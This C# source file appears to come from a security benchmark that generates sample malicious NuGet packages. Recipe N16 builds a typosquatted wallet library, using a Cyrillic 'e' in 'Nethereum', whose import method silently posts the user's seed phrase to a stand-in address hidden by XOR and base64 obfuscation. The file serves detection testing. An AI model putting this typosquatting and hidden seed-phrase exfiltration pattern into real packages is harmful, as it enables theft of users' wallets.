using System.Globalization;
using System.Text;
using Assay.Benchmark.Building;

namespace Assay.Benchmark.Recipes;

/// <summary>A wallet library that posts the phrase it is given to an address that is exclusive-or of two arrays.</summary>
internal sealed class HiddenAddressPost() : Recipe("N16", "WalletImporter=AccountReader ImportAsync=OpenAsync Shuffle=Arrange Announce=Notify mnemonic=seedPhrase mask=pattern letters=units")
{
    private const string Address = "https://example.invalid/api/gas/estimate/v1";
    private const string Mask = "kM3vQ8zT1pLx7YcR5wNb2JdF9sGh4KaU6eVo0iXt8yBn";

    protected override void Write(Sketch sketch)
    {
        // The twin keeps a label of its window in the same way, and speaks with a server that stands there to be read.
        var shuffle = Shuffle(sketch, sketch.Twin(Address, "Welcome to the sample wallet, second edition"));
        var post = sketch.Api($$"""
            using var client = new HttpClient();
            var fields = new Dictionary<string, string> { ["message"] = {{sketch.Twin("mnemonic", "account.Name")}} };
            await client.PostAsync(address, new FormUrlEncodedContent(fields)).ConfigureAwait(false);
            """, $$"""
            using var client = new WebClient();
            var fields = new System.Collections.Specialized.NameValueCollection { ["message"] = {{sketch.Twin("mnemonic", "account.Name")}} };
            await client.UploadValuesTaskAsync(address, fields).ConfigureAwait(false);
            """);
        sketch
            // The replica's id has the Cyrillic U+0435 in its first part.
            .NuGet(sketch.Twin("N\u0435thereum.Wallets.All", "Sample.Wallets"), version: "5.0.0")
            .Assembly("lib/netstandard2.0/Sample.Wallets.dll", $$"""
                namespace Sample.Wallets
                {
                    public sealed class Account
                    {
                        public string Name { get; set; }

                        public byte[] Seed { get; set; }
                    }

                    public sealed class WalletImporter
                    {
                        public async Task<Account> ImportAsync(string mnemonic, string password = null)
                        {
                            if (string.IsNullOrWhiteSpace(mnemonic))
                            {
                                throw new ArgumentException("Empty phrase.", nameof(mnemonic));
                            }

                            var seed = SHA256.HashData(Encoding.UTF8.GetBytes(mnemonic + password));
                            var account = new Account { Name = "main", Seed = seed };
                            if (Inert.On)
                            {
                                var address = {{sketch.Twin("Shuffle(account.Name)", "\"https://wallet.example.com/names\"")}};
                                try
                                {
                                    {{post}}
                                }
                                catch (HttpRequestException)
                                {
                                }
                            }

                            return account;
                        }

                        public string Title => Shuffle(null);

                        private static string Shuffle(string name)
                        {
                            {{shuffle}}
                        }
                    }
                }
                """);
    }

    // Plain: position by position over a select. Otherwise: one key, base-64, backwards, in a loop.
    private static string Shuffle(Sketch sketch, string text)
    {
        if (!sketch.HidesTexts)
        {
            var hidden = text.Select((letter, at) => (letter ^ Mask[at]).ToString(CultureInfo.InvariantCulture));
            return $$"""
                var letters = new char[] { {{string.Join(", ", hidden.Select(value => "(char)" + value))}} };
                var mask = {{CSharpText.Literal(Mask)}}.ToCharArray();
                return new string(letters.Select((letter, at) => (char)(letter ^ mask[at % mask.Length])).ToArray());
                """;
        }

        var bytes = Encoding.UTF8.GetBytes(new string([.. text.Reverse()])).Select(value => (byte)(value ^ 0x35)).ToArray();
        return $$"""
            var letters = Convert.FromBase64String("{{Convert.ToBase64String(bytes)}}");
            for (var at = 0; at < letters.Length; at++)
            {
                letters[at] = (byte)(letters[at] ^ 0x35);
            }

            Array.Reverse(letters);
            return Encoding.UTF8.GetString(letters);
            """;
    }
}
